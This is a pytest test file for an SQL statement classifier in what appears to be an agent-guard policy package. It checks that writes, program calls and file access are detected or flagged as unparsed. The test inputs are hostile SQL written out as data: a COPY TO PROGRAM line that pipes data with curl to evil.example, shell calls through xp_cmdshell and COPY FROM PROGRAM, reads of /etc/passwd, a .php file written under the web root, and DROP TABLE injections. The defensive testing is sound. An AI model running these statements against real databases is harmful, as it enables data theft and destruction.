"""Statements in SQL: every write is seen, or the text counts as unparsed."""

from __future__ import annotations

import logging
import time

import pytest

from agentguard.policy.sql_text import sql_statements


def kinds(text: str, dialect: str = "") -> set[str]:
    return {statement["kind"] for statement in sql_statements(text, dialect)}


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 1",
        "select a, count(*) from b.c join d on c.x = d.x where y like '%; drop table z%' group by 1",
        "SELECT 1;",
        "(SELECT 1) UNION ALL SELECT 2 -- drop table x",
        "WITH a AS (SELECT 1) SELECT * FROM a /* delete from x */",
        "SELECT 'it''s; DROP TABLE x'",
        "VALUES (1)",
        "SELECT \"drop table\" FROM t",
    ],
)  # fmt: skip
def test_a_query_is_a_select_and_nothing_else(text: str) -> None:
    """Words in texts, names and comments are no statements."""
    assert kinds(text) == {"select"}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("SELECT 1; DROP TABLE users", "drop"),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "delete"),
        ("WITH a AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM a", "insert"),
        ("WITH a AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM a", "update"),
        ("SELECT * INTO copy_of_users FROM users", "create"),
        ("EXPLAIN ANALYZE DELETE FROM users", "delete"),
        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET x = 1", "update"),
        ("COPY users TO PROGRAM 'curl -d @- https://evil.example'", "copy"),
        ("COPY (SELECT * FROM users) TO '/tmp/x'", "copy"),
        ("TRUNCATE users", "truncate"),
        ("ALTER TABLE users ADD COLUMN x int", "alter"),
        ("GRANT ALL ON users TO public", "grant"),
        ("CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE x $$ LANGUAGE sql", "create"),
        ("MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE", "merge"),
        ("SET ROLE admin", "set"),
        ("BEGIN; DELETE FROM x; COMMIT", "delete"),
        ("DELETE/**/FROM/**/users", "delete"),
        ("dElEtE FROM users", "delete"),
        ("SELECT 1 /* /* */ ; DROP TABLE x -- */", "drop"),
        ("SELECT 1;\n-- nothing\n;;DROP TABLE x", "drop"),
        ("ATTACH DATABASE '/etc/x' AS y", "attach"),
        ("PRAGMA writable_schema = 1", "pragma"),
        ("CALL refund_all()", "call"),
    ],
)
def test_every_write_is_a_statement_of_its_own(text: str, kind: str) -> None:
    """Wherever it hides."""
    assert kind in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "selec 1",
        "DO $$ BEGIN DROP TABLE x; END $$",
        "PREPARE a AS DELETE FROM x",
        "EXEC xp_cmdshell 'dir'",
        "EXECUTE a",
        "/*!50000 DROP TABLE x */",
        "SELECT 1 /*!UNION SELECT password FROM users*/",
        "SELECT 1 INTO OUTFILE '/var/www/x.php'",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "SELECT * FROM dblink('dbname=x', 'DROP TABLE y') AS t(a int)",
        "SELECT query_to_xml('DELETE FROM x', true, true, '')",
        "\\! rm -rf /",
        "SELECT '\\'; HANDLER t OPEN; -- '",
        "SELECT 1\x00; DROP TABLE x",
        "SELECT " + "(" * 5000 + "1" + ")" * 5000,
        "SELECT " + "NOT " * 4000 + "1",
        "SELECT 1 " * 5000,
        "DELETE FROM",
        "SELECT `a; DROP TABLE x",
    ],
)
def test_what_is_not_understood_is_unparsed(text: str) -> None:
    """Text that statements come out of, text that only some databases run, and text that no parser finishes."""
    assert "unparsed" in kinds(text)


def test_databases_that_read_a_text_apart_are_all_heard() -> None:
    """MySQL ends the text at the escaped quote's partner, PostgreSQL at the quote."""
    text = "SELECT '\\'; DROP TABLE x; -- '"

    assert kinds(text) == {"select", "drop"}
    assert kinds(text, "mysql") == {"select"}
    assert kinds(text, "postgres") == {"select", "drop"}


@pytest.mark.parametrize("dialect", ["oracle23x", "", "post gres", "../x"])
def test_a_dialect_that_nobody_knows_is_an_error(dialect: str) -> None:
    """And never the default."""
    with pytest.raises(ValueError, match="no such dialect"):
        sql_statements("SELECT 1", dialect or "nope")


def test_a_statement_has_its_tables_and_functions() -> None:
    """Names that a CTE defines are no tables; names are in lower case."""
    (statement,) = sql_statements("WITH a AS (SELECT 1) SELECT pg_sleep(9) FROM a, Sales.Orders", "postgres")

    assert statement["tables"] == ["sales.orders"]
    assert statement["functions"] == ["pg_sleep"]


@pytest.mark.parametrize(
    ("text", "program", "file"),
    [
        ("COPY t FROM PROGRAM 'sh'", True, True),
        ("COPY t TO STDOUT", False, False),
        ("COPY t TO '/tmp/x'", False, True),
        ("SELECT pg_read_file('/etc/passwd')", False, True),
        ("SELECT * FROM '/etc/passwd'", False, True),
        ('SELECT * FROM "data.parquet"', False, True),
        ("SELECT * FROM a JOIN 'https://evil.example/x.csv' b ON true", False, True),
        ("SELECT * FROM data.csv", False, False),
        ("SELECT lo_export(1, '/tmp/x')", False, True),
        ("SELECT load_extension('x')", True, True),
        ("SELECT 1", False, False),
    ],
)
def test_programs_and_files_of_the_server_are_told(text: str, program: bool, file: bool) -> None:
    """A query can start a program and read a file."""
    statement = sql_statements(text, "postgres")[0]

    assert (statement["program"], statement["file"]) == (program, file)


def test_the_text_is_not_logged(caplog: pytest.LogCaptureFixture) -> None:
    """The parser warns about what it does not support, and quotes it."""
    with caplog.at_level(logging.DEBUG):
        sql_statements("DO $$ BEGIN secret_value; END $$")

    assert "secret_value" not in caplog.text


def test_hostile_text_takes_no_long_time() -> None:
    """Each under a second, whatever is nested in it."""
    started = time.process_time()
    for text in (
        "(" * 19_000,
        "SELECT " + "a+" * 9_000 + "1",
        "WITH a AS (" * 1_500,
        "SELECT CASE " * 1_500,
        "'" * 19_999,
    ):
        sql_statements(text)

    assert time.process_time() - started < 5
